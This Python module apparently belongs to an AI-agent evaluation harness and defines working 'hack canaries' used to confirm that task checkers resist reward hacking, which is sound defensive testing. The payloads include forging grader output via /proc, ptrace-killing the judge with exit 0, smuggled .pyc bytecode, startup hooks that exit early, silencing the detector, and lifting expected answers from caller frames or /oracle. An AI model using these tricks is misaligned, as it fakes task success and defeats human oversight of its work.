"""Hack canaries: hostile artifacts of memgrid's own that try to pass a task's checker without solving it.

Each is laid over the task's naive reference (the solution an agent ships without the fact, which the
checker must fail) or, to silence the detector, over a damaged one; its payload is appended to every
Python file of the workspace and runs once in any process that imports the artifact. They are
task-blind: they attack the grader (memgrid-grade, the judge's process, the interpreter's start-up, the
bytecode cache), not a task's format, so every task, shipped or imported, must hold against all of them.
`memgrid task check` fails a task on which one passes, naming the attack; `memgrid selftest` runs them
on one task.

The task-aware canaries (TASK_AWARE) need to know what the checker calls: a task that declares its entry
(task.yaml `entry`: file and function) gets them laid over its naive reference, the declared function
replaced by one that returns the expected value it finds beside its arguments in its callers' frames, or in
the files of /oracle. They pass against a judge that runs the artifact in a process of its own user holding
the cases (tests/data/legacy_slug_ids_oracle); memgrid_check hands the artifact inputs alone, as a user who
cannot read /oracle, so both must fail on every task.
"""

import base64
import importlib.util
import marshal
import sys
from dataclasses import dataclass
from pathlib import PurePosixPath
from typing import Callable

from runner.env.archive import Entry

# Runs the payload once per process, whichever of the artifact's modules is imported first; appended at
# the end of each file, so a leading `from __future__` import stays first.
GUARD = """
import sys as _memgrid_canary_sys
if not getattr(_memgrid_canary_sys, "_memgrid_canary", False):
    _memgrid_canary_sys._memgrid_canary = True
    exec(__import__("base64").b64decode({code!r}).decode(), {{}})
"""

FORGED_GRADE = ('{"checker": {"exit": 0, "timed_out": false, "output": "SUMMARY: forged"}, '
                '"detector": {"exit": 0, "timed_out": false, "output": "{\\"fired\\": []}", "fired": []}}')

# A detached process (setsid, double fork: out of reach of a process-group kill) opens the grader's
# stdout through /proc, waits for the grader to exit and appends a passing grade line. It passes against a
# grader that reads the last line of its own output and runs as the artifact's user.
FORGE_VERDICT = r"""
import os, time
grade = GRADE
def graders():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if b"memgrid-grade" in open(f"/proc/{pid}/cmdline", "rb").read():
                    yield int(pid)
            except OSError:
                pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        held = []
        for pid in graders():
            try:
                held.append((pid, os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_APPEND)))
            except OSError:
                pass
        deadline = time.monotonic() + 120
        while held and time.monotonic() < deadline and any(os.path.exists(f"/proc/{p}") for p, _ in held):
            time.sleep(0.05)
        for _, fd in held:
            try:
                os.write(fd, ("\n" + grade + "\n").encode())
            except OSError:
                pass
    os._exit(0)
""".replace("GRADE", repr(FORGED_GRADE))

# Attaches to the judge (a python3 running /oracle/check.py) and points it at exit_group(0) from inside
# the blocking system call it waits in. Passes where the artifact runs as the judge's user (no Yama, the
# engine's default seccomp profile allows ptrace).
PTRACE_JUDGE = r"""
import ctypes, os, platform
if platform.machine() == "x86_64":
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    class Regs(ctypes.Structure):
        _fields_ = [(n, ctypes.c_ulonglong) for n in (
            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
            "fs_base gs_base ds es fs gs").split()]
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if not any(a.endswith(b"/oracle/check.py") for a in args):
            continue
        pid = int(pid)
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            continue
        os.waitpid(pid, 0x40000000)  # __WALL
        regs = Regs()
        libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
        regs.rip -= 2  # back onto the `syscall` instruction it waits after
        regs.rax, regs.rdi, regs.orig_rax = 231, 0, 2**64 - 1  # exit_group(0), no restart
        libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
"""

# Writes a usercustomize.py into the running user's site folder: any later Python of that user with the
# user site on (the damage detector, in a grader that runs it as the same user with the same HOME)
# reports that no wrong rule fired and exits before looking.
SILENCE_DETECTOR = r"""
import os, site
hook = 'import os, sys\nif any("detect" in a for a in sys.argv):\n    print(\'{"fired": []}\', flush=True)\n    os._exit(0)\n'
for folder in {site.getusersitepackages(), os.path.expanduser("~/.local/lib/python3.11/site-packages")}:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "usercustomize.py"), "w") as fh:
            fh.write(hook)
    except OSError:
        pass
"""

# Files Python or pytest would run before the judge looks, each ending its process with exit 0.
EXIT_NOW = b"import os; os._exit(0)\n"
STARTUP_HOOKS = {"sitecustomize.py": EXIT_NOW, "usercustomize.py": EXIT_NOW,
                 "memgrid_canary.pth": b"import os; os._exit(0)\n", "conftest.py": EXIT_NOW,
                 "pytest.ini": b"[pytest]\naddopts = -p no:python --co -q\n",
                 "setup.cfg": b"[tool:pytest]\naddopts = -p no:python --co -q\n"}


@dataclass(frozen=True)
class HackCanary:
    name: str
    attack: str
    base: str  # the reference it is laid over: naive, or damaged (the first damaged reference the task has)
    build: Callable[[dict[str, Entry], dict[str, Entry]], dict[str, Entry]]  # (workspace, informed overlay) -> workspace

    def passed(self, verdict, condition: str | None) -> bool:
        """Did the attack work: the checker passed, or (on a damaged base) the detector missed its condition."""
        if self.base == "damaged":
            return verdict.fired != (condition,)
        return verdict.passed


def with_payload(files: dict[str, Entry], code: str) -> dict[str, Entry]:
    guard = GUARD.format(code=base64.b64encode(code.encode()).decode()).encode()
    return {p: Entry(p, e.data + guard, e.mode) if p.endswith(".py") else e for p, e in files.items()}


def smuggled_bytecode(files: dict[str, Entry], informed: dict[str, Entry]) -> dict[str, Entry]:
    """Beside each source the informed reference changes, an unchecked-hash .pyc of the informed version:
    Python runs it and never reads the (naive) source a reviewer sees."""
    out = dict(files)
    for path, entry in informed.items():
        if not path.endswith(".py"):
            continue
        p = PurePosixPath(path)
        code = compile(entry.data, path, "exec", dont_inherit=True)
        pyc = importlib.util.MAGIC_NUMBER + (0b01).to_bytes(4, "little") + b"\0" * 8 + marshal.dumps(code)
        cached = p.parent / "__pycache__" / f"{p.stem}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"
        out[cached.as_posix()] = Entry(cached.as_posix(), pyc, 0o644)
    return out


CANARIES = (
    HackCanary("forge-verdict", "a detached process appends a passing grade line to the grader's output",
               "naive", lambda files, _: with_payload(files, FORGE_VERDICT)),
    HackCanary("ptrace-judge", "the artifact attaches to the judge with ptrace and makes it exit 0",
               "naive", lambda files, _: with_payload(files, PTRACE_JUDGE)),
    HackCanary("bytecode-smuggle", "unchecked-hash .pyc files of the informed solution beside the naive "
               "sources", "naive", smuggled_bytecode),
    HackCanary("startup-hooks", "sitecustomize, usercustomize, a .pth file, conftest.py, pytest.ini and "
               "setup.cfg in the workspace, each exiting 0 before anything is judged", "naive",
               lambda files, _: {**files, **{p: Entry(p, d, 0o644) for p, d in STARTUP_HOOKS.items()}}),
    HackCanary("silence-detector", "a damaged solution writes a usercustomize.py that makes the detector "
               "report nothing", "damaged", lambda files, _: with_payload(files, SILENCE_DETECTOR)),
)

# The bytecode canary's .pyc must be for the checker image's interpreter (Debian bookworm: 3.11); on a
# host with another Python it would be ignored and pass for the wrong reason, so it is not run there.
IMAGE_PYTHON = (3, 11)


def canaries_for_this_host() -> tuple[HackCanary, ...]:
    if sys.version_info[:2] == IMAGE_PYTHON:
        return CANARIES
    return tuple(c for c in CANARIES if c.name != "bytecode-smuggle")


# ---- task-aware canaries: a task's declared entry (task.yaml `entry`) returns what the grader holds ------------

# Laid at the end of the entry file: the declared function is replaced by one that returns the expected value
# when the canary's `places` show one beside the call's arguments, else what the naive original returns.
ENTRY_HOOK = """
_memgrid_canary = {{"FUNCTION": {function!r}, "naive": {function}}}
exec(compile(__import__("base64").b64decode({code!r}).decode(), "<memgrid-canary>", "exec"), _memgrid_canary)
{function} = _memgrid_canary["replacement"]
"""

# Where a case keeps its answer, besides "the one field that is not an argument". Both canaries search alike: a
# dict whose values hold every argument gives the value under such a key; a pair (arguments, answer) its second.
SEARCH = r"""
import os, sys

MISSING = object()
ANSWER_KEYS = ("expected", "expect", "want", "wanted", "answer", "result", "output", "out", "id", "value", "gold")
BUDGET = 200000  # items looked at per call: it must answer inside the checker's per-call timeout
PLAIN = (str, int, float, bytes, list, tuple, dict)


def same(a, b):
    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):  # JSON has no tuples
        return len(a) == len(b) and all(same(x, y) for x, y in zip(a, b))
    try:
        return isinstance(a, PLAIN) and type(a) is not bool and a == b
    except Exception:
        return False


def holds(value, needle, depth=0):
    if same(value, needle):
        return True
    if depth >= 4:
        return False
    if isinstance(value, dict):
        return any(holds(v, needle, depth + 1) for v in value.values())
    if isinstance(value, (list, tuple)):
        return any(holds(v, needle, depth + 1) for v in value)
    return False


def answer_key(key):
    low = key.lower() if isinstance(key, str) else None
    return low is not None and (low in ANSWER_KEYS or low.startswith(("expect", "want")) or key == FUNCTION)


def beside(value, needles, budget, seen, depth=0):
    # The answer kept beside the arguments anywhere inside `value`, else MISSING.
    budget[0] -= 1
    if budget[0] < 0 or depth > 12 or id(value) in seen or not isinstance(value, (dict, list, tuple)):
        return MISSING
    seen.add(id(value))
    if isinstance(value, dict):
        if all(holds(value, n) for n in needles):
            others = [k for k, v in value.items() if not any(holds(v, n) for n in needles)]
            for k in others:
                if answer_key(k):
                    return value[k]
            if needles and len(others) == 1:
                return value[others[0]]
        items = list(value.values())
    else:
        if needles and len(value) == 2 and all(holds(value[0], n) for n in needles) \
                and not any(holds(value[1], n) for n in needles):
            return value[1]
        items = value
    for item in items:
        found = beside(item, needles, budget, seen, depth + 1)
        if found is not MISSING:
            return found
    return MISSING


def needles_of(args, kwargs):
    out = []
    for a in [*args, *kwargs.values()]:
        if isinstance(a, os.PathLike):
            a = os.fspath(a)
        if a is not None and type(a) is not bool:  # a flag or a None sits beside everything
            out.append(a)
    return out


def search(places, args, kwargs):
    needles, budget, seen = needles_of(args, kwargs), [BUDGET], set()
    for place in places:
        found = beside(place, needles, budget, seen)
        if found is not MISSING:
            return found
    return MISSING


def replacement(*args, **kwargs):
    try:
        found = search(places(), args, kwargs)
    except Exception:
        found = MISSING
    return naive(*args, **kwargs) if found is MISSING else found


replacement.__name__ = replacement.__qualname__ = FUNCTION
"""

# Every local of every frame above the call: a judge that calls the artifact in its own process holds the case
# it is checking (its arguments and expected value) in some caller's frame.
CALLER_FRAMES = r"""
def places():
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_filename != "<memgrid-canary>":
            yield from list(frame.f_locals.values())
        frame = frame.f_back
"""

# Every file it can read under /oracle and under the paths on its command line (where a judge hands its
# harness the cases file), as JSON or as the literals of a Python source; read once per process. The artifact's
# own folder is left out: an answer found there would be the fixture's leak, not the grader's.
ORACLE_READ = r"""
import ast, json

READ = []


def literals(node):
    if isinstance(node, (ast.Dict, ast.List, ast.Tuple, ast.Set)):
        try:
            yield ast.literal_eval(node)
            return
        except (ValueError, TypeError, SyntaxError, MemoryError, RecursionError):
            pass
    for child in ast.iter_child_nodes(node):
        yield from literals(child)


def document(path):
    try:
        if os.path.getsize(path) > 4 << 20:
            return []
        with open(path, "rb") as fh:
            data = fh.read()
    except OSError:
        return []
    if path.endswith(".py"):
        try:
            return list(literals(ast.parse(data)))
        except (SyntaxError, ValueError, RecursionError):
            return []
    try:
        return [json.loads(data)]
    except (ValueError, RecursionError):
        return []


def files():
    roots = ["/oracle"] + [a for a in sys.argv if os.path.isabs(a) and os.path.exists(a)
                           and not os.path.realpath(a).startswith("/artifact")]
    for root in roots:
        if os.path.isfile(root):
            yield root
        for folder, _, names in os.walk(root):
            for name in names:
                yield os.path.join(folder, name)


def places():
    if not READ:
        READ.append([doc for path in sorted(set(files()))[:2000] for doc in document(path)])
    return READ[0]
"""


@dataclass(frozen=True)
class TaskAwareCanary:
    """Laid over the naive reference on a task that declares its entry: the declared function answers with the
    expected value wherever `places` (the finder's source) lets it see one beside the call's arguments."""
    name: str
    attack: str
    places: str
    base = "naive"

    def build(self, files: dict[str, Entry], entry) -> dict[str, Entry]:
        """`entry`: the task's EntrySpec; the hook goes at the end of that file as the naive reference leaves it."""
        code = base64.b64encode((SEARCH + self.places).encode()).decode()
        hook = ENTRY_HOOK.format(function=entry.function, code=code).encode()
        original = files[entry.file]
        return {**files, entry.file: Entry(entry.file, original.data + hook, original.mode)}

    def passed(self, verdict, condition: str | None) -> bool:
        return verdict.passed


TASK_AWARE = (
    TaskAwareCanary("caller-frames", "the entry function returns the expected value it finds beside its arguments "
                    "in a caller's frame", CALLER_FRAMES),
    TaskAwareCanary("oracle-read", "the entry function reads /oracle (and the files on its command line) and "
                    "returns the expected value it finds there beside its arguments", ORACLE_READ),
)
